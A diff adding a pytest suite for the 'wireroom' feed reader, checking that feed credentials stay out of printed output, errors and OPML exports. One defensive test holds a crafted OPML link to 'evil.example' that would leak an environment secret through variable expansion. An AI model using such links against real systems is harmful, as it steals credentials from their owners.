@@ -1,0 +1,114 @@
+"""A list of feeds with secrets: in the file as the operator wrote them, nowhere else."""
+
+from __future__ import annotations
+
+from pathlib import Path
+
+import pytest
+
+from wireroom.errors import ConfigurationError, FeedsFileError
+from wireroom.sources import (
+    add_feeds,
+    load_feeds_file,
+    new_feed,
+    pause_feed,
+    read_opml,
+    remove_feed,
+    write_opml,
+)
+
+LISTED = """feeds:
+  - https://ada:s3cret-word@bay.example/rss
+  - url: https://bay.example/rss?token=s3cret-word
+    title: Bay
+    archive: https://bay.example/old?token=s3cret-word
+  - url: https://paid.example/rss?token=${PAID_TOKEN}
+    headers: {X-Api-Key: "${PAID_KEY}", Accept-Language: nb}
+    basic_auth: ada:${PAID_PASSWORD}
+  - url: https://wire.example/rss
+    connection: wire_example
+"""
+
+
+@pytest.fixture
+def path(tmp_path: Path) -> Path:
+    file = tmp_path / "feeds.yaml"
+    file.write_text(LISTED)
+    return file
+
+
+def test_what_is_loaded_can_be_printed(path: Path) -> None:
+    specs = load_feeds_file(path)
+    assert "s3cret" not in repr(specs)
+    assert "s3cret" not in write_opml(specs, "Ours").decode()
+    assert [list(spec.secrets.values()) for spec in specs[:2]] == [["ada:s3cret-word"], ["s3cret-word"]]
+    assert specs[2].url == "https://paid.example/rss?token=${PAID_TOKEN}"
+    assert specs[2].headers == (("X-Api-Key", "${PAID_KEY}"), ("Accept-Language", "nb"))
+    assert (specs[2].basic_auth, specs[3].connection) == ("ada:${PAID_PASSWORD}", "wire_example")
+
+
+def test_the_same_list_gives_the_same_feeds(path: Path) -> None:
+    assert load_feeds_file(path) == load_feeds_file(path)
+
+
+def test_the_file_keeps_its_secrets_through_every_edit(path: Path, tmp_path: Path) -> None:
+    for spec in load_feeds_file(path)[:2]:
+        pause_feed(path, spec.url, paused=True)
+    text = path.read_text()
+    assert "url: https://ada:s3cret-word@bay.example/rss\n    paused: true" in text
+    assert "***" not in text
+    copy = tmp_path / "copy.yaml"
+    add_feeds(copy, load_feeds_file(path))
+    assert load_feeds_file(copy) == load_feeds_file(path)
+    remove_feed(path, load_feeds_file(path)[0].url)
+    assert "ada:s3cret-word" not in path.read_text()
+
+
+@pytest.mark.parametrize(
+    ("line", "words"),
+    [
+        ("headers: {Authorization: Bearer s3cret-word}", "holds a secret: set it in the environment"),
+        ("headers: {X-Api-Key: s3cret-word}", "X-Api-Key: '${NAME}'"),
+        ("headers: {Host: other.example}", "which a feed cannot set"),
+        ("headers: s3cret-word", "is no mapping"),
+        ("basic_auth: ada:s3cret-word", "user:${NAME}"),
+        ("basic_auth: s3cret-word", "user:${NAME}"),
+        ("connection: no such id!", "is not the id of an Airflow connection"),
+        ("url: https://***ab12cd@bay.example/", "shows a secret masked"),
+        ("url: 'https://bay.example/ a?token=s3cret-word'", "holds a space"),
+    ],
+)
+def test_a_mistake_is_told_without_the_secret(tmp_path: Path, line: str, words: str) -> None:
+    file = tmp_path / "feeds.yaml"
+    start = "" if line.startswith("url") else "url: https://bay.example/rss\n    "
+    file.write_text(f"feeds:\n  - {start}{line}\n")
+    with pytest.raises(FeedsFileError) as error:
+        load_feeds_file(file)
+    assert words in str(error.value)
+    assert "s3cret" not in str(error.value)
+
+
+def test_a_strangers_list_cannot_ask_for_our_secrets() -> None:
+    """An imported OPML file must not make us send ${DATABASE_PASSWORD} to whoever wrote it."""
+    skipped: list[str] = []
+    opml = b'<opml version="2.0"><body><outline xmlUrl="https://evil.example/?x=${BAY}"/></body></opml>'
+    assert read_opml(opml, "theirs.opml", on_skip=skipped.append) == ()
+    assert "refers to a secret of this machine" in skipped[0]
+
+
+def test_an_exported_list_comes_back_but_for_its_secrets(path: Path) -> None:
+    skipped: list[str] = []
+    opml = write_opml(load_feeds_file(path), "Ours")
+    assert [spec.url for spec in read_opml(opml, "ours.opml", on_skip=skipped.append)] == [
+        "https://wire.example/rss"
+    ]
+    assert len(skipped) == 3
+    assert not any("s3cret" in reason for reason in skipped)
+
+
+def test_a_feed_typed_in_is_masked_at_once() -> None:
+    spec = new_feed({"url": "https://bay.example/rss?token=s3cret-word"})
+    assert "s3cret" not in spec.url
+    with pytest.raises(ConfigurationError) as error:
+        new_feed({"url": "ftp://ada:s3cret-word@bay.example/rss"})
+    assert "s3cret" not in str(error.value)
